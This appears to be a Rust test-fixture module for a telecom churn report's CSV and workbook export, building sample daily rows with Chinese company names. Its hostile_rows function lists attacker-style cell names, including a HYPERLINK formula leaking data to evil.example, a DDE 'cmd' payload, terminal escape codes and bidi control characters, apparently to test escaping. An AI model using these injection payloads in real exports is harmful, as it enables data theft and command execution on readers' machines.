//! The forms of one small report and of lists, in the words that people read.

mod csv;
mod document;
mod forms;
mod queries;
pub(crate) mod stored;
mod versions;
mod workbook;

use crate::domain::counters::Figures;
use crate::domain::daily_row::{DailyRow, IndicatorCell, ShownRow};
use crate::domain::ids::{GroupId, UnitId};
use crate::domain::indicator::{Scope, Verdict};
use crate::domain::local_day::{LocalDay, Timestamp};
use crate::domain::locale::Locale;
use crate::domain::trust::{Trust, TrustReason};
use crate::report::{CsvEncoding, Instants, Options};
use crate::views::table_words::table_words;

impl Default for Options {
    fn default() -> Self {
        Self {
            words: table_words(Locale::ZhCn),
            instants: Instants::Utc,
            headers: None,
            encoding: CsvEncoding::Utf8,
            byte_order_mark: true,
            for_terminal: false,
            width: None,
        }
    }
}

/// 2026-05-31, a Sunday.
pub(crate) const DAY: LocalDay = LocalDay::from_number(20_604);

/// 2026-06-01T17:00:00.5Z.
pub(crate) const AS_OF: Timestamp = Timestamp::from_micros(1_780_333_200_500_000);

pub(crate) fn group(id: &str) -> Scope {
    Scope::Group(GroupId::parse(id).unwrap())
}

/// A row with figures that all differ, and the four indicators by the contract's formulas.
pub(crate) fn row(scope: Scope, name: &str, opening: i64, verdict: Verdict) -> DailyRow {
    let figures = Figures {
        opening,
        closing: opening + 3 - 11,
        joined: 3,
        lost: 11,
        churned_voluntary: 4,
        churned_involuntary: 2,
        ported_out: 1,
        suspended: 5,
        newly_suspended: 1,
        complaints: 6,
        open_complaints: 2,
        survey_answers: 3,
        survey_score_thousandths: 250_125,
        developed: 8,
        billed: 90,
        billed_fen: 123_456_789,
    };
    let rate = |n: i64| (opening > 0).then(|| n as f64 / opening as f64);
    let judged = |value| IndicatorCell {
        value,
        verdict,
        limit: None,
    };
    DailyRow {
        day: DAY,
        unit_id: scope.group().map(|_| "U01".to_owned()),
        scope,
        name: name.to_owned(),
        figures,
        indicators: [
            judged(rate(7)),
            judged(rate(11)),
            judged(rate(60_000)),
            judged(Some(250.125 / 3.0)),
        ],
        balance_churn_rate: None,
        trust: Trust::Ok,
        trust_reasons: Vec::new(),
    }
}

pub(crate) fn shown(row: DailyRow) -> ShownRow {
    ShownRow {
        row,
        version: Some(2),
        as_of: AS_OF,
        restated: false,
    }
}

pub(crate) fn plain_rows() -> Vec<ShownRow> {
    let mut company = row(Scope::Company, "四川移动", 120_000, Verdict::Ok);
    company.trust = Trust::Warning;
    company.trust_reasons = vec![
        TrustReason::NotReadPast {
            sources: vec!["boss-3".to_owned()],
        },
        TrustReason::BalanceGap { tenths: 32 },
    ];
    company.balance_churn_rate = Some(0.031);
    let unit = row(
        Scope::Unit(Some(UnitId::parse("U01").unwrap())),
        "成都高新分公司",
        4_000,
        Verdict::Watch,
    );
    let mut group_over = shown(row(
        group("G0001"),
        "成都天府软件园有限公司",
        233,
        Verdict::Breach,
    ));
    group_over.restated = true;
    let mut empty = row(
        group("G0002"),
        "Ünïcode & Co 株式会社",
        0,
        Verdict::InsufficientData,
    );
    empty.indicators[3].value = None;
    empty.figures = Figures {
        opening: 0,
        closing: 0,
        joined: 0,
        lost: 0,
        billed_fen: -5,
        ..Figures::default()
    };
    let mut unassigned = row(
        Scope::Unit(None),
        "unassigned",
        1_000,
        Verdict::FeedIncomplete,
    );
    unassigned.trust = Trust::Failed;
    vec![
        shown(company),
        shown(unit),
        shown(unassigned),
        group_over,
        shown(empty),
    ]
}

/// Names as an attacker or a broken BOSS would choose them.
pub(crate) fn hostile_rows() -> Vec<ShownRow> {
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "+8613800008000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "＝1＋1",
        "引号\"与,逗号\r\n与换行",
        "\u{1b}[31m红\u{1b}[0m\u{9b}2J\u{7}",
        "反\u{202e}转\u{2066}文\u{200b}字",
        "<b>&amp;</b>{\"a\":1}\\",
        "𠮷野家😀👨‍👩‍👧",
        "",
    ];
    names
        .iter()
        .zip(1..)
        .map(|(name, n)| shown(row(group(&format!("={n}")), name, 100 + n, Verdict::Ok)))
        .collect()
}
